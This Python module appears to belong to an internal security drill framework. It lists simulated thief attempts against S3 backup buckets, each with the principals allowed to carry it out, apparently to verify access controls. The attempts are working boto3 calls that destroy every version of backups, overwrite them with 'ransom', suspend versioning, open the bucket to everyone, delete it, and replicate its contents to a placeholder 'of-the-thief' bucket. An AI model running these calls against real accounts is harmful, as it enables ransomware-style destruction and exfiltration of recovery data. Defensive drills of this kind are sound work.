"""Destroying and reading backups, and whatever would destroy them later."""

import json
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

from drill.thief.attempt import Attempt
from drill.thief.holders import NOBODY, Holders
from drill.thief.principal import OPERATOR, READER
from drill.thief.spoils import Spoils
from topology.site import SiteName

Key = Callable[[Spoils], str]


def on_backups(site: SiteName, holders: Holders) -> Iterator[Attempt]:
    """Archive, dumps, snapshots, evidence, and the bucket that keeps them."""
    yield from _on_objects(site, holders)
    yield Attempt(
        what="list the names of all that is in {site}'s bucket",
        service="s3",
        site=site,
        act=lambda s3, spoils: s3.list_objects_v2(Bucket=spoils.bucket(site)),
        may=holders.every_machine | {OPERATOR, READER},
    )
    yield from _on_the_bucket(site)


def _on_objects(site: SiteName, holders: Holders) -> Iterator[Attempt]:
    def base(spoils: Spoils) -> str:
        return spoils.base_backup(site)

    kinds = (
        ("base backup", base, holders.database(site), holders.database(site)),
        ("dump", lambda spoils: spoils.dump, NOBODY, holders.every_database),
        ("etcd snapshot", lambda spoils: spoils.snapshot, *(holders.server(site),) * 2),
        ("evidence", lambda spoils: spoils.evidence, NOBODY, holders.server(site)),
    )
    readers = {
        "base backup": holders.every_machine,
        "dump": holders.machines(site) | {OPERATOR},
        "etcd snapshot": holders.server(site),
        "evidence": frozenset({OPERATOR, READER}),
    }
    for kind, key, deletes, writes in kinds:
        where = f"{kind} in {{site}}'s bucket"

        for what, act, may in (
            ("destroy every version of", _destroy, NOBODY),
            ("delete", _delete, deletes),
            ("write over", _write_over, writes),
            ("read", _read, readers[kind]),
        ):
            yield Attempt(
                what=f"{what} the {where}",
                service="s3",
                site=site,
                act=partial(act, site, key),
                may=may,
                target=None if act is _read else key,
            )


def _destroy(site: SiteName, key: Key, s3: Any, spoils: Spoils) -> None:
    name, bucket = key(spoils), spoils.bucket(site)
    found = spoils.client("s3", site).list_object_versions(Bucket=bucket, Prefix=name)
    for version in found["Versions"]:
        s3.delete_object(Bucket=bucket, Key=name, VersionId=version["VersionId"])


def _delete(site: SiteName, key: Key, s3: Any, spoils: Spoils) -> None:
    s3.delete_object(Bucket=spoils.bucket(site), Key=key(spoils))


def _write_over(site: SiteName, key: Key, s3: Any, spoils: Spoils) -> None:
    s3.put_object(Bucket=spoils.bucket(site), Key=key(spoils), Body=b"ransom")


def _read(site: SiteName, key: Key, s3: Any, spoils: Spoils) -> None:
    s3.get_object(Bucket=spoils.bucket(site), Key=key(spoils))


def _on_the_bucket(site: SiteName) -> Iterator[Attempt]:
    rule = {
        "ID": "now",
        "Status": "Enabled",
        "Filter": {"Prefix": ""},
        "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
    }
    everybody = {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "*"}],
    }
    changes: dict[str, tuple[str, dict[str, Any]]] = {
        "have versions expire in": (
            "put_bucket_lifecycle_configuration",
            {"LifecycleConfiguration": {"Rules": [rule]}},
        ),
        "stop keeping versions in": (
            "put_bucket_versioning",
            {"VersioningConfiguration": {"Status": "Suspended"}},
        ),
        "have S3 copy elsewhere what is written into": (
            "put_bucket_replication",
            {"ReplicationConfiguration": _elsewhere()},
        ),
        "end the copies of what is written into": ("delete_bucket_replication", {}),
        "open to everybody": ("put_bucket_policy", {"Policy": json.dumps(everybody)}),
        "take the policy from": ("delete_bucket_policy", {}),
        "delete": ("delete_bucket", {}),
    }
    for what, (operation, arguments) in changes.items():

        def change(
            s3: Any, spoils: Spoils, operation: str = operation, arguments: Any = arguments
        ) -> None:
            getattr(s3, operation)(Bucket=spoils.bucket(site), **arguments)

        yield Attempt(what=f"{what} {{site}}'s bucket", service="s3", site=site, act=change)


def _elsewhere() -> dict[str, Any]:
    """Rules by which S3 copies everything into a bucket of the thief's."""
    rule = {
        "Status": "Enabled",
        "Priority": 1,
        "Filter": {"Prefix": ""},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": "arn:aws:s3:::of-the-thief"},
    }
    return {"Role": "arn:aws:iam::123456789012:role/of-the-thief", "Rules": [rule]}
